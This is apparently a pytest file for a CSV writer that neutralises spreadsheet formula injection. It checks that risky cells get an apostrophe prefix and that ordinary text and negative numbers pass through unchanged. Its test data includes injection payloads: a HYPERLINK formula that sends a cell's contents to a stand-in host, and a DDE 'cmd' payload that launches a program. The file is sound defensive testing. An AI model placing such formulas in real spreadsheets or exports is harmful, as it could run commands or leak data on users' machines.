"""A CSV for spreadsheet programs: nothing in it is a formula, and what is none is as it was."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest

from platform_assets.audiences.audience.spreadsheet import write_csv

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"bob")', "+491701234567", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠a",
]  # fmt: skip
TEXTS = ["bob", "a=b", "a-1", "1-2", "'=1", "", "x@example.com", 'Grüße, "Bob"', "two\nlines"]


def written(tmp_path: Path, table: pa.Table) -> list[dict[str, str]]:
    write_csv(table, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()], ids=str)
def test_a_text_that_a_spreadsheet_would_run_is_made_a_text(tmp_path: Path, kind: pa.DataType) -> None:
    keys = pa.array([*FORMULAS, None], kind)
    rows = written(tmp_path, pa.table({"key": keys, "score": [0.5] * len(keys)}))
    assert [row["key"] for row in rows] == [*(f"'{formula}" for formula in FORMULAS), ""]


def test_every_other_text_is_as_it_was(tmp_path: Path) -> None:
    assert [row["key"] for row in written(tmp_path, pa.table({"n": [1] * len(TEXTS), "key": TEXTS}))] == TEXTS


def test_a_negative_number_is_no_formula(tmp_path: Path) -> None:
    at = datetime(1998, 7, 1, tzinfo=UTC)
    table = pa.table({"key": [-7], "value": [-0.5], "as_of": pa.array([at], pa.timestamp("us", "UTC")), "in": [True]})
    [row] = written(tmp_path, table)
    assert row == {"key": "-7", "value": "-0.5", "as_of": "1998-07-01 00:00:00.000000Z", "in": "true"}


def test_the_table_that_is_written_stays_exact(tmp_path: Path) -> None:
    table = pa.table({"key": FORMULAS})
    write_csv(table, tmp_path / "table.csv")
    assert table["key"].to_pylist() == FORMULAS
